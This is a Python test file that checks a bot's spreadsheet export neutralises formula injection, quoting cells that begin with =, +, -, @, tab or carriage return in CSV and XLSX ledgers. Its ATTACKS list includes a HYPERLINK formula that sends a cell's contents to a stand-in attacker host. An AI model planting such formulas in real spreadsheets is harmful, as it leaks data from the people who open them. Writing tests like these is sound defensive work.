"""Typed text stays text in every spreadsheet Huibao writes (bot.summary.spreadsheet)."""

from __future__ import annotations

import dataclasses
import io
import zipfile

import pytest
from openpyxl import load_workbook

from bot.summary.render import render_ledger_xlsx
from bot.summary.spreadsheet import FORMULA_STARTS, csv_text, csv_unquote
from tests.summary.sample import LEDGER, sample_summary

ATTACKS = [
    '=HYPERLINK("http://e.vil/?"&B2,"查看附件")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+2",
    "\r=1+2",
]


def test_openings_are_owasps() -> None:
    assert FORMULA_STARTS == ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(
    "typed",
    [*ATTACKS, "'=1+2", "'引号", "''两个引号", "普通文字", "2026-06-01", "", "'", "=", "a=b"],
)
def test_csv_text_comes_back_unchanged(typed: str) -> None:
    written = csv_text(typed)
    assert csv_unquote(written) == typed
    assert not written.startswith(FORMULA_STARTS)  # nothing a spreadsheet would run


def test_csv_text_quotes_only_what_needs_it() -> None:
    assert [csv_text(t) for t in ATTACKS] == ["'" + t for t in ATTACKS]
    assert csv_text("新华社区") == "新华社区"
    assert csv_text("学习场次3场次；参与人次4000余人次") == "学习场次3场次；参与人次4000余人次"
    assert csv_text("'引号") == "''引号"


def test_csv_unquote_leaves_other_quotes_alone() -> None:
    # a quote typed into a CSV made elsewhere, not before a formula: kept as typed
    assert csv_unquote("'hello") == "'hello"
    assert csv_unquote("引号'") == "引号'"
    assert csv_unquote("'=1+2") == "=1+2"
    assert csv_unquote("''x") == "'x"


def test_the_summary_ledger_xlsx_keeps_every_typed_text_as_text() -> None:
    summary = sample_summary()
    row = dataclasses.replace(
        LEDGER[0],
        unit="=1+2",
        title=ATTACKS[0],
        location="@SUM(A1:A9)",
        figures="-2+3",
        content="+组织居民",
        reporter="@李华",
    )
    data = render_ledger_xlsx(dataclasses.replace(summary, ledger=(row,)))
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
    sheet = load_workbook(io.BytesIO(data))["台账"]
    header = [cell.value for cell in sheet[1]]
    cells = dict(zip(header, sheet[2], strict=True))
    typed = {
        "单位": row.unit,
        "活动名称": row.title,
        "地点": row.location,
        "数量": row.figures,
        "内容与成效": row.content,
        "填报人": row.reporter,
    }
    for column, text in typed.items():
        cell = cells[column]
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True), column
    assert not cells["类别"].quotePrefix
